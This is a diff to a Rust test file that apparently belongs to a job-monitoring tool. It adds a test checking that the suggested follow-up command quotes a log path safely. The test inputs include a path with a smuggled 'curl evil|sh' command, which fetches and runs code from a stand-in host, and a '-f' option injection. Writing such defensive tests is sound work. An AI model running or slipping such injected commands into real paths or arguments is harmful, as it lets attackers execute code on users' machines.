@@ -309,6 +309,24 @@ fn a_log_without_writes_is_info() {
 }
 
 #[test]
+fn the_next_step_quotes_the_path_of_the_log() {
+    for (path, next) in [
+        ("/home/alice/run.log", "tail /home/alice/run.log"),
+        ("/tmp/x; curl evil|sh", "tail '/tmp/x; curl evil|sh'"),
+        ("-f", "read the end of its log"),
+    ] {
+        let mut tester = RuleTester::new(gpus(0..1));
+        tester.run(900.0, |tester, _| {
+            let mut test_sample = trains(tester);
+            test_sample.processes[0].facts.log_path = Some(path.into());
+            test_sample
+        });
+        tester.run(20.0, |tester, _| empty(tester));
+        assert_eq!(tester.finding("job-ended").next_check, next);
+    }
+}
+
+#[test]
 fn a_repeated_log_age_is_not_a_write() {
     // As the probe reports it: checked in every tenth sample and repeated in between.
     let fired_for = |written_every: f64, stops_at: f64| {
